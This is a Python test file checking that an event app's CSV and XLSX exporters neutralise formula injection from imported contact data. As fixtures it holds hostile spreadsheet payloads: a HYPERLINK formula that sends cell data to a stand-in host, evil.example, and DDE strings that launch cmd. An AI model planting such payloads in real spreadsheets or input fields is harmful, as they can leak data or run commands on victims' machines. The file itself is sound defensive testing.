"""No CSV or XLSX the app writes runs a formula: the one helper (core.spreadsheets) for any
text, and every exporter end to end with names imported from a hostile contact list."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from reslog_events.core.spreadsheets import FORMULA_STARTS, csv_bytes, csv_lines, set_text

SETTINGS = settings(max_examples=80, derandomize=True, deadline=None, database=None)
CELLS = st.one_of(
    st.text(max_size=30),
    st.sampled_from(FORMULA_STARTS).flatmap(lambda c: st.text(max_size=20).map(lambda t: c + t)),
    st.integers(-(10**6), 10**6),
)
ROWS = st.lists(st.lists(CELLS, min_size=1, max_size=5), max_size=5)


def _dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


#: where a spreadsheet may start a cell inside a cell's text, with either list separator
SPLIT = re.compile(r"[,;\t\r\n]")


def _formula_inside(text: str) -> bool:
    """Some piece of `text` that a spreadsheet splitting on `,` or `;` (or a line break) would
    read as a cell of its own starts a formula."""
    return _dangerous(text) or any(
        piece.lstrip(" ").startswith(FORMULA_STARTS[:4]) for piece in SPLIT.split(text)[1:]
    )


@SETTINGS
@given(
    header=st.lists(CELLS, min_size=1, max_size=4),
    rows=ROWS,
    delimiter=st.sampled_from([",", ";"]),
)
def test_csv_cells_read_back_neutralised(header, rows, delimiter):
    data = csv_bytes(header, rows, delimiter)
    assert data.startswith(b"\xef\xbb\xbf")
    streamed = "".join(csv_lines(header, rows, delimiter)).encode("utf-8")
    assert streamed == data
    text = data.decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert len(read) == len(rows) + 1
    for got_row, row in zip(read, [header, *rows], strict=True):
        for got, value in zip(got_row, row, strict=True):
            if isinstance(value, int):
                assert got == str(value)  # numbers, negative ones too, stay numbers
                continue
            assert not _formula_inside(got), got
            # only apostrophes were added, and only where a formula would have started
            assert got.replace("'", "") == value.replace("'", "")
            if not _formula_inside(value):
                assert got == value


def test_numbers_are_bare_and_text_is_quoted():
    """A number written as text would not add up in Excel; -5 is a number, not a formula."""
    data = csv_bytes(["Ad", "Sayı"], [["-5", -5], [None, 12]], ";")
    assert data.decode("utf-8-sig") == '"Ad";"Sayı"\r\n"\'-5";-5\r\n"";12\r\n'


@pytest.mark.parametrize("written", [",", ";"])
@pytest.mark.parametrize("read_with", [",", ";"])
def test_a_formula_after_a_separator_stays_text_whatever_excel_splits_on(written, read_with):
    needs = 'Vegan;=HYPERLINK("http://evil.example","Tıkla"),+1'
    data = csv_bytes(["Ad", "İhtiyaçlar", "Sayı"], [["Ayşe", needs, -3]], written)
    for line in data.decode("utf-8-sig").splitlines():
        for field in line.split(read_with):  # as Excel splits it, quotes or not
            if re.fullmatch(r"-?\d+", field):
                continue  # a number, negative or not, is no formula
            assert not field.strip('" ').startswith(FORMULA_STARTS), field


@SETTINGS
@given(text=st.text(max_size=40))
def test_xlsx_text_cells_are_never_formulas(text):
    book = Workbook()
    cell = book.active.cell(row=1, column=1)
    set_text(cell, text)
    buffer = io.BytesIO()
    book.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue())).active.cell(row=1, column=1)
    assert read.data_type == "s" or read.value is None
    kept = "".join(c for c in text if c in "\t\n\r" or ord(c) >= 32)
    # control characters XML cannot carry are dropped, everything else is kept as typed (XML
    # reads a carriage return as a line feed)
    assert (read.value or "") == kept.replace("\r\n", "\n").replace("\r", "\n")
    assert read.quotePrefix == kept.startswith(FORMULA_STARTS)


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_ORG = "+cmd|' /C calc'!A0"
HOSTILE_POSITION = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def imported(app, api, create_organisation, create_event, create_invitation):
    """A contact imported from a CSV whose cells are formulas, invited, answered, scanned."""
    from reslog_events.core.columns import utcnow
    from reslog_events.directory.models import Contact
    from reslog_events.extensions import db

    create_organisation(name=HOSTILE_ORG, code="EVIL")
    upload = (
        "full_name;email;organisation;position;phone\r\n"
        f'"{HOSTILE_NAME.replace(chr(34), chr(34) * 2)}";evil@example.org;EVIL;'
        f"{HOSTILE_POSITION};+90 212 555 00 00\r\n"
    ).encode()
    resp = api("organiser").post(
        "/api/v1/contacts/import", data={"file": (io.BytesIO(upload), "evil.csv")}
    )
    assert resp.status_code == 200 and resp.json["created"] == 1, resp.json
    contact = db.session.scalar(db.select(Contact).filter_by(email="evil@example.org"))
    assert contact.full_name == HOSTILE_NAME  # stored exactly as typed
    starts = utcnow().replace(microsecond=0) - timedelta(hours=2)
    event = create_event(starts_at=starts, ends_at=starts + timedelta(hours=1))
    new = create_invitation(event=event, contact=contact, status="accepted")
    new.invitation.dietary_needs = "-2+3"
    db.session.commit()
    staff = api("staff")
    ok = staff.post(
        f"/api/v1/events/{event.id}/checkins",
        json={"code": new.checkin_code, "nonce": "formula-ok-1", "gate": "=GATE()"},
    )
    assert ok.status_code == 201, ok.json
    miss = staff.post(
        f"/api/v1/events/{event.id}/checkins",
        json={"code": "=WEBSERVICE(1)", "nonce": "formula-miss-1", "gate": "\tA"},
    )
    assert miss.status_code == 404
    return event


def _csv_cells(data: bytes, delimiter: str = ",") -> list[str]:
    text = io.StringIO(data.decode("utf-8-sig"))
    return [c for row in csv.reader(text, delimiter=delimiter) for c in row]


def _xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_csv_safe(data: bytes, *must_contain: str, delimiter: str = ",") -> None:
    cells = _csv_cells(data, delimiter)
    assert not [c for c in cells if _formula_inside(c)], [c for c in cells if _formula_inside(c)]
    for text in must_contain:
        assert "'" + text in cells, text


def _assert_xlsx_safe(data: bytes, *must_contain: str) -> None:
    cells = _xlsx_cells(data)
    for cell in cells:
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str) and _dangerous(cell.value):
            assert cell.quotePrefix, cell.value
    values = {c.value for c in cells}
    for text in must_contain:
        assert text in values, text


def test_rsvp_answers_csv_and_xlsx(imported, client, auth):
    auth.login("organiser")
    csv_data = client.get(f"/events/{imported.id}/answers.csv").data
    _assert_csv_safe(csv_data, HOSTILE_NAME, HOSTILE_ORG, HOSTILE_POSITION, "-2+3")
    semicolons = client.get(f"/events/{imported.id}/answers.csv?sep=;").data
    assert semicolons.startswith(b"\xef\xbb\xbf") and b'";"' in semicolons
    _assert_csv_safe(semicolons, HOSTILE_NAME, HOSTILE_ORG, delimiter=";")
    xlsx = client.get(f"/events/{imported.id}/answers.xlsx").data
    _assert_xlsx_safe(xlsx, HOSTILE_NAME, HOSTILE_ORG, HOSTILE_POSITION, "-2+3")


def test_a_formula_typed_after_a_semicolon_in_needs(imported, client, auth):
    """Issue 13: `=HYPERLINK(…)` after a `;` in a needs field became a live formula when the
    answers CSV was opened in Turkish Excel (which splits on `;`)."""
    from reslog_events.extensions import db
    from reslog_events.invitations.models import Invitation

    invitation = db.session.scalar(db.select(Invitation).filter_by(event_id=imported.id))
    invitation.dietary_needs = 'Vejetaryen;=HYPERLINK("http://evil.example/?"&A1,"Tıkla")'
    db.session.commit()
    auth.login("organiser")
    for sep in (",", ";"):
        data = client.get(f"/events/{imported.id}/answers.csv", query_string={"sep": sep}).data
        text = data.decode("utf-8-sig")
        assert "HYPERLINK" in text
        for read_with in (",", ";"):
            for line in text.splitlines():
                for field in line.split(read_with):  # as Excel splits it, quotes or not
                    assert not field.strip('" ').startswith(FORMULA_STARTS), (sep, field)


def test_checkin_log_csv(imported, client, auth):
    auth.login("staff")
    resp = client.get(f"/events/{imported.id}/checkin/log.csv")
    assert resp.status_code == 200
    _assert_csv_safe(resp.data, HOSTILE_NAME, HOSTILE_ORG, "=GATE()")


@pytest.mark.parametrize("group_by", ["organisation", "event"])
def test_reports_csv_and_xlsx(imported, api, group_by):
    coordinator = api("coordinator")
    label = HOSTILE_ORG if group_by == "organisation" else None
    base = {"group_by": group_by}
    csv_data = coordinator.get("/api/v1/reports/attendance", query_string={**base, "format": "csv"})
    assert csv_data.status_code == 200
    _assert_csv_safe(csv_data.data, *([label] if label else []))
    xlsx = coordinator.get("/api/v1/reports/attendance", query_string={**base, "format": "xlsx"})
    _assert_xlsx_safe(xlsx.data, *([label] if label else []))
